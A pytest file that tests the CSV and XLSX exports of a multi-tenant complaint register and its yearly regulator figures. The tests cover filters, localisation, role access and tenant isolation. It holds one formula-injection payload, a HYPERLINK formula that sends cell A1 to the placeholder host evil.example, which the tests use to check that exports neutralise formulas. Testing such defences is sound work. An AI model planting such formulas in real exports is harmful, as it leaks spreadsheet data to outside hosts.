"""The complaint register's downloads (issue #15, item 7): the register list as CSV and XLSX with its filters
applied, and the regulator's yearly figures (a page for the company admin, with CSV and XLSX): counts by
reason, channel, outcome and delay band, labels in the reader's language, formulas neutralised in both
formats, each company's own entries only."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from typing import Any

import openpyxl
from flask import Flask
from sqlalchemy import select

from tests.conftest import TenantSet
from webapp import tenancy
from webapp.i18n import force_locale
from webapp.models import AuditEvent, Channel, Label, LabelKind, Role, Tenant
from webapp.services import register

EVIL = '=HYPERLINK("http://evil.example/?"&A1, "Cliquez")'
HEADER_FR = ["Référence", "Date de réception", "Envoyée le", "Canal"]


def _csv(body: bytes) -> list[list[str]]:
    text = body.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _xlsx(body: bytes) -> list[list[Any]]:
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return [[c.value for c in row] for row in sheet.iter_rows()]


def _xlsx_cells(body: bytes) -> list[Any]:
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    return [c for row in sheet.iter_rows() for c in row]


def _moment(day: date, hour: int = 10) -> datetime:
    return datetime(day.year, day.month, day.day, hour, tzinfo=UTC)


def _entry(tenant_id: int, received: date, *, channel: Channel = Channel.EMAIL, reasons: tuple[str, ...] = (),
           subject: str = "Carte bloquée", acknowledged: date | None = None, answered: date | None = None,
           outcome: str | None = None) -> str:
    """An entry, acknowledged and answered on the days given (set as a person would have, then back-dated)."""
    with tenancy.tenant_session(tenant_id) as session:
        entry = register.create_entry(session, actor=register.Actor.machine(), received_on=received,
                                      channel=channel, subject=subject, reasons=reasons)
        if acknowledged is not None:
            register.transition(session, entry, "acknowledged", register.Actor.machine())
            entry.acknowledged_at = _moment(acknowledged)
        if answered is not None and outcome is not None:
            register.answer(session, entry, "Voici notre réponse. Médiateur : Médiateur de l'assurance.", outcome,
                            register.Actor.machine())
            entry.answered_at = _moment(answered)
            entry.acknowledged_at = entry.acknowledged_at if acknowledged is not None else entry.answered_at
        return entry.reference


def _reasons(tenant_id: int) -> None:
    with tenancy.tenant_session(tenant_id) as session:
        tenant = session.get(Tenant, tenant_id)
        assert tenant is not None
        tenant.mediator_name = "Médiateur de l'assurance"
        session.add(Label(kind=LabelKind.REASON, key="billing", label_fr="Facturation", label_en="Billing"))
        session.add(Label(kind=LabelKind.REASON, key="evil", label_fr=EVIL, label_en=EVIL))


def test_the_register_downloads_with_its_filters_french_labels_and_no_formula(
        app: Flask, tenants: dict[str, TenantSet], login_as: Any) -> None:
    a = tenants["a"].id
    with app.app_context():
        _reasons(a)
        evil = _entry(a, date(2026, 3, 2), subject=EVIL, reasons=("billing",), acknowledged=date(2026, 3, 3))
        _entry(a, date(2026, 3, 4), subject="Agence fermée")
        _entry(tenants["b"].id, date(2026, 3, 4), subject="Theirs")
    client = login_as("a", Role.QUALITY_MANAGER)  # company A speaks French
    response = client.get("/register/export.csv?status=acknowledged")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert 'filename="register-' in response.headers["Content-Disposition"]
    rows = _csv(response.data)
    assert rows[0][:4] == HEADER_FR
    assert len(rows) == 2 and rows[1][0] == evil  # the filter applied: the acknowledged one only
    assert "'" + EVIL in rows[1] and "Facturation" in rows[1]
    everything = _csv(client.get("/register/export.csv").data)
    assert [r[0] for r in everything[1:]] == sorted((r[0] for r in everything[1:]), reverse=True)
    assert len(everything) == 3 and "Theirs" not in str(everything)  # company A's register only

    book = client.get("/register/export.xlsx?q=HYPERLINK")
    assert book.status_code == 200 and book.mimetype.endswith("spreadsheetml.sheet")
    values = _xlsx(book.data)
    assert values[0][0] == "Référence" and len(values) == 2
    cells = [c for c in _xlsx_cells(book.data) if c.value == EVIL]
    assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)  # text, never a formula
    assert values[1][1] == datetime(2026, 3, 2, tzinfo=UTC).replace(tzinfo=None)  # dates stay dates
    with app.app_context(), tenancy.tenant_session(a) as session:
        events = session.scalars(select(AuditEvent).where(AuditEvent.action == "register.exported")).all()
        assert [(e.details["format"], e.details["rows"]) for e in events] == [("csv", 1), ("csv", 2), ("xlsx", 1)]


def test_staff_cannot_download_the_register(app: Flask, tenants: dict[str, TenantSet], login_as: Any) -> None:
    assert login_as("a", Role.STAFF).get("/register/export.csv").status_code == 403


def _figures(app: Flask, tenant_id: int) -> None:
    """2026 in company A: five entries, and one in 2025 that must not count."""
    with app.app_context():
        _reasons(tenant_id)
        # Received Monday 2 March 2026: acknowledge by Friday 13 March, answer by 2 May.
        _entry(tenant_id, date(2026, 3, 2), reasons=("billing",), acknowledged=date(2026, 3, 5),
               answered=date(2026, 4, 20), outcome="upheld")
        _entry(tenant_id, date(2026, 3, 2), reasons=("billing", "evil"), channel=Channel.PHONE,
               acknowledged=date(2026, 3, 20), answered=date(2026, 6, 1), outcome="rejected")
        _entry(tenant_id, date(2026, 3, 2), channel=Channel.LETTER, answered=date(2026, 3, 10),
               outcome="partly_upheld")  # answered first: acknowledged then too
        _entry(tenant_id, date(2026, 3, 2), acknowledged=date(2026, 3, 12))
        _entry(tenant_id, date(2026, 11, 30))
        _entry(tenant_id, date(2025, 12, 24), reasons=("billing",))


def test_the_yearly_figures_count_by_reason_channel_outcome_and_delay(
        app: Flask, tenants: dict[str, TenantSet], login_as: Any) -> None:
    _figures(app, tenants["a"].id)
    admin = login_as("a", Role.TENANT_ADMIN)
    page = admin.get("/register/figures?year=2026")
    assert page.status_code == 200
    text = page.text
    assert "Chiffres des réclamations 2026" in text and "5 réclamations reçues" in text
    with app.app_context(), tenancy.tenant_session(tenants["a"].id) as session:
        from webapp.services import register_exports

        tenant = session.get(Tenant, tenants["a"].id)
        assert tenant is not None
        with force_locale("en"):
            figures = register_exports.figures(session, tenant, 2026, "en")
    counts = {b.key: {c.key: c.count for c in b.counts} for b in figures.breakdowns}
    assert figures.total == 5
    assert counts["reason"] == {"billing": 2, "evil": 1, "": 3}
    assert counts["channel"] == {"phone": 1, "store": 0, "email": 3, "web": 0, "letter": 1}
    assert counts["outcome"] == {"upheld": 1, "partly_upheld": 1, "rejected": 1, "": 2}
    assert counts["acknowledgement"] == {"in_time": 3, "late": 1, "not_yet": 1}
    assert counts["answer"] == {"in_time": 2, "late": 1, "not_yet": 2}
    labels = {b.key: [c.label for c in b.counts] for b in figures.breakdowns}
    assert labels["acknowledgement"][0] == "Acknowledged within 10 working days"
    assert labels["answer"][0] == "Answered within 2 months"
    assert figures.years[:2] == [2026, 2025]


def test_the_figures_download_in_french_without_formulas(app: Flask, tenants: dict[str, TenantSet],
                                                         login_as: Any) -> None:
    _figures(app, tenants["a"].id)
    admin = login_as("a", Role.TENANT_ADMIN)
    rows = _csv(admin.get("/register/figures.csv?year=2026").data)
    assert rows[0] == ["Année", "Indicateur", "Valeur", "Réclamations"]
    assert ["2026", "Réclamations reçues", "", "5"] in rows
    assert ["2026", "Par motif de réclamation", "Facturation", "2"] in rows
    assert ["2026", "Délai de réponse", "Réponse dans les 2 mois", "2"] in rows
    assert ["2026", "Par motif de réclamation", "'" + EVIL, "1"] in rows
    book = admin.get("/register/figures.xlsx?year=2026")
    values = _xlsx(book.data)
    assert values[0] == ["Année", "Indicateur", "Valeur", "Réclamations"]
    assert values[1] == [2026, "Réclamations reçues", None, 5]  # numbers stay numbers
    evil = [c for c in _xlsx_cells(book.data) if c.value == EVIL]
    assert evil and all(c.data_type == "s" and c.quotePrefix for c in evil)
    assert admin.get("/register/figures?year=twenty").status_code == 400


def test_only_the_company_admin_sees_the_figures_and_only_their_companys(
        app: Flask, tenants: dict[str, TenantSet], login_as: Any) -> None:
    _figures(app, tenants["a"].id)
    for role in (Role.QUALITY_MANAGER, Role.STAFF):
        client = login_as("a", role)
        assert client.get("/register/figures").status_code == 403
        assert client.get("/register/figures.csv").status_code == 403
    theirs = login_as("b", Role.TENANT_ADMIN)
    rows = _csv(theirs.get("/register/figures.csv?year=2026").data)
    assert ["2026", "Complaints received", "", "0"] in rows and "Billing" not in str(rows)
    assert "0 complaints received" in theirs.get("/register/figures?year=2026").text
    register_page = login_as("a", Role.TENANT_ADMIN).get("/register")
    assert 'id="register-figures"' in register_page.text
    assert 'id="register-figures"' not in login_as("a", Role.QUALITY_MANAGER).get("/register").text
